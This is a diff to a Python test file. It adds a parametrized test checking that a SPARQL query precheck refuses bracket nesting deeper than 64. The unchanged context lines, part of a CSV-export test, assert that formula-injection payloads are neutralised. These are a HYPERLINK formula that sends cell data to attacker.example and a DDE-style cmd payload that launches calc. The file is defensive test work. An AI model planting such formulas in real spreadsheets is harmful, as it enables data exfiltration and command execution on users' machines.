@@ -740,3 +740,23 @@ def test_document_text_that_looks_like_a_formula_is_neutralised_in_the_csv_expor
     assert lines[1] == '"\'=HYPERLINK(""http://attacker.example/?d=""&A1,""Bấm vào đây"")"'
     assert lines[2] == "'@SUM(1+1)*cmd|' /C calc'!A0"
     assert lines[3:5] == ["- Sở Tài chính chủ trì", "Sở Công Thương"]
+
+
+@pytest.mark.parametrize(
+    ("text", "refused"),
+    [
+        ("SELECT * WHERE { ?s ?p ?o }", False),
+        ("ASK {" + "{}" * 500 + "}", False),  # 501 brackets, never more than 2 deep
+        ("ASK " + "{" * 64 + "}" * 64, False),
+        ("ASK " + "{" * 65 + "}" * 65, True),
+        ("ASK " + "(" * 40 + "[" * 30 + "]" * 30 + ")" * 40, True),
+    ],
+)
+def test_the_nesting_precheck_counts_depth_not_brackets(text, refused):
+    from graph.server.guard import JobError, precheck
+
+    if refused:
+        with pytest.raises(JobError, match="nested more than 64"):
+            precheck(text)
+    else:
+        precheck(text)
